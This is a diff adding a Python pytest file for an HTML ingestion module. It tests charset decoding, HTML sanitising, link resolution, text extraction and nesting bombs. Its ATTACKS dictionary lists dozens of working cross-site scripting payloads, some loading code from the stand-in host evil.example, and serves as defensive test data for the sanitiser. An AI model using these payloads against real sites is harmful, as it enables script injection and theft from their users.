@@ -1,0 +1,309 @@
+import pytest
+from lxml import html as lxml_html
+
+from ingest.text.markup import clean_html, decode, line_of, parse_html, safe_text, text_of
+
+BASE = "https://news.example/world/"
+EURO = "10 € für Brot"
+
+
+@pytest.mark.parametrize(
+    ("body", "content_type", "text", "encoding"),
+    [
+        pytest.param(b"\xef\xbb\xbfabc", None, "abc", "utf-8", id="the mark of utf-8"),
+        pytest.param("é".encode("utf-16"), "text/xml; charset=utf-8", "é", "utf-16-le", id="a mark before the header"),
+        pytest.param(b"\xfe\xff\x00a", None, "a", "utf-16-be", id="the mark of utf-16 big-endian"),
+        pytest.param("a<".encode("utf-32"), None, "a<", "utf-32-le", id="the mark of utf-32"),
+        pytest.param(EURO.encode(), None, EURO, "utf-8", id="nothing said"),
+        pytest.param(b"\xe9t\xe9", "text/html; charset=ISO-8859-1", "été", "cp1252", id="the header's word"),
+        pytest.param(b"\x93x\x94", "text/html;charset='latin1'", "“x”", "cp1252", id="latin 1 is windows-1252"),
+        pytest.param(
+            '<?xml version="1.0" encoding="windows-1251"?><a>Киев</a>'.encode("cp1251"),
+            None,
+            '<?xml version="1.0" encoding="windows-1251"?><a>Киев</a>',
+            "cp1251",
+            id="the declaration's word",
+        ),
+        pytest.param(
+            "<meta charset=shift_jis>日本".encode("cp932"),
+            None,
+            "<meta charset=shift_jis>日本",
+            "cp932",
+            id="a page's word",
+        ),
+        pytest.param(
+            "<meta charset='gb2312'>中國".encode("gb18030"), None, "<meta charset='gb2312'>中國", "gb18030", id="gb"
+        ),
+        pytest.param("ış".encode("cp1254"), "text/xml; charset=iso-8859-9", "ış", "cp1254", id="Turkish"),
+    ],
+)
+def test_text_is_decoded_by_the_most_trusted_word(
+    body: bytes, content_type: str | None, text: str, encoding: str
+) -> None:
+    assert decode(body, content_type) == (text, encoding, ())
+
+
+@pytest.mark.parametrize(
+    ("body", "content_type", "text", "rule"),
+    [
+        pytest.param(EURO.encode(), "text/xml; charset=us-ascii", EURO, "wrong-charset", id="utf-8 declared as ascii"),
+        pytest.param("café".encode(), "text/xml; charset=bogus-8", "café", "wrong-charset", id="an unknown label"),
+        pytest.param(
+            "café".encode(), "text/xml; charset=utf-16", "café", "wrong-charset", id="utf-8 declared as utf-16"
+        ),
+        pytest.param(
+            "café".encode(), "text/xml; charset=rot13", "café", "wrong-charset", id="a codec that is no charset"
+        ),
+        pytest.param(
+            "Zürich, Genève, Köln, ".encode() + b"it\x92s",
+            None,
+            "Zürich, Genève, Köln, it’s",
+            "bad-bytes",
+            id="a stray",
+        ),
+        pytest.param(
+            ("Die Straße über die Brücke war gesperrt, weil Bäume gefallen waren. " * 5).encode("cp1252"),
+            "text/xml; charset=utf-8",
+            "Die Straße über die Brücke war gesperrt, weil Bäume gefallen waren. " * 5,
+            "wrong-charset",
+            id="windows-1252 declared as utf-8",
+        ),
+        pytest.param("<é>".encode("utf-16-le"), None, "<é>", "no-byte-order-mark", id="utf-16 without a mark"),
+        pytest.param("\n<é>".encode("utf-16-be"), None, "\n<é>", "no-byte-order-mark", id="big-endian without a mark"),
+        pytest.param("{é}".encode("utf-16-le"), None, "{é}", "no-byte-order-mark", id="JSON in utf-16"),
+        pytest.param(
+            "été".encode(), "text/xml; charset=ISO-8859-1", "été", "wrong-charset", id="utf-8 declared as latin 1"
+        ),
+        pytest.param(b"\xff\xfea\x00\x00\xd8", None, "a\ufffd", "bad-bytes", id="half a character of utf-16"),
+    ],
+)
+def test_a_wrong_word_about_the_encoding_is_set_right_and_named(
+    body: bytes, content_type: str | None, text: str, rule: str
+) -> None:
+    decoded = decode(body, content_type)
+    assert decoded.text == text
+    assert [flaw.rule for flaw in decoded.flaws] == [rule]
+
+
+ATTACKS = {
+    "script": "<script>alert(1)</script>",
+    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "script with a slash": "<script/xss src=//evil.example></script>",
+    "script unclosed": "<script>alert(1)",
+    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "script split by a null": "<scr\0ipt>alert(1)</scr\0ipt>",
+    "script after a bracket": "<<script>alert(1);//<</script>",
+    "handler": '<img src="x" onerror="alert(1)">',
+    "handler without quotes": "<img src=x onerror=alert(1)>",
+    "handler after a slash": "<img/src=x/onerror=alert(1)>",
+    "handler after a form feed": "<img src=x\fonerror=alert(1)>",
+    "handler in capitals": '<p ONCLICK="alert(1)">x</p>',
+    "handler on load": "<body onload=alert(1)>x",
+    "handler on focus": "<input autofocus onfocus=alert(1)>",
+    "handler on toggle": "<details open ontoggle=alert(1)>x</details>",
+    "handler on a pointer": "<a onpointerover=alert(1)>x</a>",
+    "handler in a video": "<video><source onerror=alert(1)></video>",
+    "handler in a marquee": "<marquee onstart=alert(1)>x</marquee>",
+    "script address": '<a href="javascript:alert(1)">x</a>',
+    "script address in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
+    "script address with a tab": '<a href="java\tscript:alert(1)">x</a>',
+    "script address with a line end": '<a href="java\nscript:alert(1)">x</a>',
+    "script address with entities": '<a href="&#106;avascript:alert(1)">x</a>',
+    "script address with long entities": '<a href="&#x0000006A;avascript&#58;alert(1)">x</a>',
+    "script address with a named colon": '<a href="javascript&colon;alert(1)">x</a>',
+    "script address after a control": '<a href="\x01javascript:alert(1)">x</a>',
+    "script address after spaces": '<a href="   javascript:alert(1)">x</a>',
+    "script address of a picture": '<img src="javascript:alert(1)">',
+    "script address of a quotation": '<blockquote cite="javascript:alert(1)">x</blockquote>',
+    "script address of a poster": '<video poster="javascript:alert(1)"></video>',
+    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
+    "data address": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+    "data picture": '<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E">',
+    "style element": "<style>body{background:url(javascript:alert(1))}</style>",
+    "style attribute": '<div style="background:url(javascript:alert(1))">x</div>',
+    "style expression": '<p style="width:expression(alert(1))">x</p>',
+    "style import": "<style>@import'//evil.example/x.css';</style>",
+    "frame": '<iframe src="javascript:alert(1)"></iframe>',
+    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "object": '<object data="javascript:alert(1)">x</object>',
+    "embed": '<embed src="//evil.example/x.swf">',
+    "applet": "<applet code=x>x</applet>",
+    "base": '<base href="//evil.example/">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "stylesheet": '<link rel="stylesheet" href="//evil.example/x.css">',
+    "form": '<form action="//evil.example"><input name=a><button formaction=javascript:alert(1)>x</button></form>',
+    "drawing": "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "drawing's link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "drawing's animation": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "drawing's foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+    "formula": '<math href="javascript:alert(1)">x</math>',
+    "formula mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
+    "</mglyph></table></mtext></math>",
+    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "template": "<template><script>alert(1)</script></template>",
+    "comment": "<!--><img src=x onerror=alert(1)>-->",
+    "comment of a browser": "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
+    "instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
+    "attribute that breaks out": '<p title="&quot;><script>alert(1)</script>">x</p>',
+    "backquotes": "<img src=`x` onerror=`alert(1)`>",
+    "textarea mutation": "<textarea><img src=x onerror=alert(1)></textarea>",
+    "title mutation": "<title><img src=x onerror=alert(1)></title>",
+    "xmp mutation": "<xmp><img src=x onerror=alert(1)></xmp>",
+    "select mutation": "<select><style></select><img src=x onerror=alert(1)></style>",
+    "portal": "<portal src=javascript:alert(1)></portal>",
+    "is attribute": "<p is=x-evil slot=a>x</p>",
+}
+SAFE_ATTRIBUTES = frozenset(
+    "href src alt title lang dir width height datetime hreflang colspan rowspan headers scope start reversed type"
+    " poster controls kind srclang label value span".split()
+)
+
+
+@pytest.mark.parametrize("html", ATTACKS.values(), ids=ATTACKS)
+def test_no_attack_survives(html: str) -> None:
+    cleaned = clean_html(f"<p>before</p>{html}<p>after</p>", BASE)
+    root = lxml_html.fragment_fromstring(cleaned, create_parent="div")
+    for element in root.iter():
+        assert isinstance(element.tag, str), "a comment or an instruction"
+        assert element.tag not in {
+            "script",
+            "style",
+            "iframe",
+            "object",
+            "embed",
+            "form",
+            "svg",
+            "math",
+            "base",
+            "meta",
+        }
+        assert set(element.attrib) <= SAFE_ATTRIBUTES
+        for name in ("href", "src", "poster"):
+            assert element.get(name, "https:").startswith(("https:", "http:", "mailto:", "tel:"))
+    assert "before" in cleaned
+    assert clean_html(cleaned, BASE) == cleaned
+
+
+@pytest.mark.parametrize(
+    ("html", "base", "expected"),
+    [
+        pytest.param('<a href="b">x</a>', BASE, '<a href="https://news.example/world/b">x</a>', id="relative"),
+        pytest.param('<a href="/b">x</a>', BASE, '<a href="https://news.example/b">x</a>', id="from the root"),
+        pytest.param(
+            '<img src="//i.example/a.jpg">', BASE, '<img src="https://i.example/a.jpg">', id="without a scheme"
+        ),
+        pytest.param(
+            '<a href="../b?c=1&amp;d=2#e">x</a>', BASE, '<a href="https://news.example/b?c=1&amp;d=2#e">x</a>', id="up"
+        ),
+        pytest.param(
+            '<a href="#note">x</a>', BASE, '<a href="https://news.example/world/#note">x</a>', id="a fragment"
+        ),
+        pytest.param('<a href="mailto:a@b.example">x</a>', BASE, '<a href="mailto:a@b.example">x</a>', id="mail"),
+        pytest.param('<a href="b">x</a>', None, "<a>x</a>", id="relative to nothing known"),
+        pytest.param('<a href="https://a.example/">x</a>', None, '<a href="https://a.example/">x</a>', id="absolute"),
+        pytest.param('<a href="b">x</a>', "urn:sha256:0", "<a>x</a>", id="relative to no address"),
+        pytest.param('<video poster="p.jpg"></video>', BASE, f'<video poster="{BASE}p.jpg"></video>', id="a poster"),
+    ],
+)
+def test_addresses_become_absolute(html: str, base: str | None, expected: str) -> None:
+    assert clean_html(html, base) == expected
+
+
+@pytest.mark.parametrize(
+    ("html", "expected"),
+    [
+        pytest.param("plain text", "plain text", id="text"),
+        pytest.param(" 1 > 0 ", "1 &gt; 0", id="a lone bracket"),
+        pytest.param("a &amp; b", "a &amp; b", id="an entity"),
+        pytest.param("a & b", "a &amp; b", id="a bare ampersand"),
+        pytest.param("<p>a<br/>b</p>", "<p>a<br>b</p>", id="a void element"),
+        pytest.param("<p>a<p>b", "<p>a</p><p>b</p>", id="unclosed"),
+        pytest.param("<font color=red>a</font>", "a", id="presentation"),
+        pytest.param("<object data=x><p>a</p></object>", "<p>a</p>", id="what is shown in an object's place"),
+        pytest.param('<p lang="ckb" dir="rtl">ئ</p>', '<p lang="ckb" dir="rtl">ئ</p>', id="language and direction"),
+        pytest.param(
+            '<a href="https://a.example/" target="_blank" rel="x">a</a>',
+            '<a href="https://a.example/">a</a>',
+            id="target",
+        ),
+        pytest.param("<ol start=3><li>a</li></ol>", '<ol start="3"><li>a</li></ol>', id="numbers of a list"),
+        pytest.param("it\x92s", "it’s", id="a character of windows-1252"),
+    ],
+)
+def test_harmless_markup_is_kept_and_written_soundly(html: str, expected: str) -> None:
+    assert clean_html(html, BASE) == expected
+
+
+@pytest.mark.parametrize(
+    ("html", "expected"),
+    [
+        pytest.param("", "", id="nothing"),
+        pytest.param("a &amp; b &lt;c&gt;", "a & b <c>", id="entities without a tag"),
+        pytest.param("<p>a</p><p>b</p>", "a\n\nb", id="paragraphs"),
+        pytest.param("a<br>b<br><br>c", "a\nb\nc", id="line ends"),
+        pytest.param("<div><div>a</div></div>b", "a\n\nb", id="nested blocks"),
+        pytest.param("a<b>b</b> <i>c</i>", "ab c", id="inline"),
+        pytest.param("<p>a</p><script>b</script><style>c</style>", "a", id="what is not shown"),
+        pytest.param("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\n\nc", id="table"),
+        pytest.param("<ul><li>a</li><li>b</li></ul>", "a\n\nb", id="list"),
+        pytest.param("a<!-- b -->c", "ac", id="comment"),
+        pytest.param("<p>  a \n\t b\xa0c </p>", "a b c", id="white space"),
+        pytest.param("<img alt=x>", "", id="a picture"),
+    ],
+)
+def test_text_of_a_fragment(html: str, expected: str) -> None:
+    assert text_of(html) == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "html", "expected"),
+    [
+        pytest.param("  a \n b ", False, "a b", id="folded"),
+        pytest.param("a &amp; <b>b</b>", False, "a &amp; <b>b</b>", id="text stays as it is"),
+        pytest.param("a &amp; <b>b</b>", True, "a & b", id="html"),
+        pytest.param("<p>a</p><p>b</p>", True, "a b", id="blocks become a space"),
+        pytest.param("a\x00b\x1b[31m", False, "ab[31m", id="controls"),
+        pytest.param("a\u2028b\u00a0c", False, "a b c", id="other white space"),
+        pytest.param("1 < 2", True, "1 < 2", id="a bracket that opens nothing"),
+    ],
+)
+def test_one_line_of_text(text: str, html: bool, expected: str) -> None:
+    assert line_of(text, html=html) == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        pytest.param("a\tb\nc\r", "a\tb\nc\r", id="white space stays"),
+        pytest.param("\x00\x08\x0b\x1f\x7f", "", id="controls"),
+        pytest.param("\x85\x92\x80", "…’€", id="windows-1252"),
+        pytest.param("\x81\x8d\x9d", "", id="what windows-1252 leaves out"),
+        pytest.param("\ud800a\udfff", "a", id="lone surrogates"),
+        pytest.param("\ufdd0\ufffe\uffff", "", id="non-characters"),
+        pytest.param("\u200f\u200cئ😀\ufffd", "\u200f\u200cئ😀\ufffd", id="marks, joiners and the rest stay"),
+    ],
+)
+def test_characters_that_no_text_may_hold_are_removed(text: str, expected: str) -> None:
+    assert safe_text(text) == expected
+
+
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        pytest.param("<div>" * 100_000 + "deep", id="open"),
+        pytest.param("<div>" * 50_000 + "deep" + "</div>" * 50_000, id="closed"),
+        pytest.param("<b><p>" * 20_000 + "deep", id="misnested"),
+        pytest.param("<table><tr><td>" * 5_000 + "deep", id="tables"),
+        pytest.param("<a href=x>" * 20_000 + "deep", id="formatting elements"),
+    ],
+)
+def test_deep_nesting_costs_no_text(bomb: str) -> None:
+    assert "deep" in clean_html(bomb, BASE)
+    assert text_of(bomb) == "deep"
+    assert "deep" in parse_html(bomb).text_content()
+
+
+def test_a_long_text_is_cleaned_whole() -> None:
+    html = "<p>word</p>" * 100_000
+    assert clean_html(html) == html
